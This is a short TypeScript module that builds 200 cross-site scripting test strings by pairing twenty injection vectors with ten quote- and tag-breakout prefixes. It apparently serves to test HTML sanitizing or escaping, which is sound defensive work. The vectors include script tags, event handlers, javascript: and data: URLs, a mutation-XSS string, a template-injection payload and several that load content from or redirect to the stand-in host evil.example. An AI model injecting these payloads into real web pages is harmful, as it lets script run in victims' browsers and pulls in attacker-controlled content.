/**
 * Texts that want to run: each way to begin a script, in each place where a page may let it out of its quotes.
 *
 * @module
 */

const ways = [
  "<script>window.hit=1</script>",
  "<img src=x onerror=window.hit=1>",
  "<svg onload=window.hit=1>",
  "<svg><script>window.hit=1</script></svg>",
  "<body onload=window.hit=1>",
  "<iframe src=javascript:parent.hit=1>",
  "<iframe srcdoc='<script>parent.hit=1</script>'>",
  "<a href=javascript:window.hit=1>x</a>",
  "<form action=javascript:window.hit=1><button>x</button></form>",
  "<input autofocus onfocus=window.hit=1>",
  "<details open ontoggle=window.hit=1>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
  "<style>@import 'http://evil.example/x.css'</style>",
  "<link rel=stylesheet href=http://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=http://evil.example'>",
  "<base href=http://evil.example/>",
  "<object data=http://evil.example/x.swf>",
  "javascript:window.hit=1",
  "data:text/html,<script>window.hit=1</script>",
  "{{constructor.constructor('window.hit=1')()}}"
]
const outs = [
  "",
  '">',
  "'>",
  "`>",
  "</textarea>",
  "</title></style></script>",
  "-->",
  "\u0000",
  "&quot;&gt;",
  '" autofocus onfocus="window.hit=1" x="'
]

/** Two hundred of them. */
export const payloads: ReadonlyArray<string> = ways.flatMap((way) => outs.map((out) => `${out}${way}`))
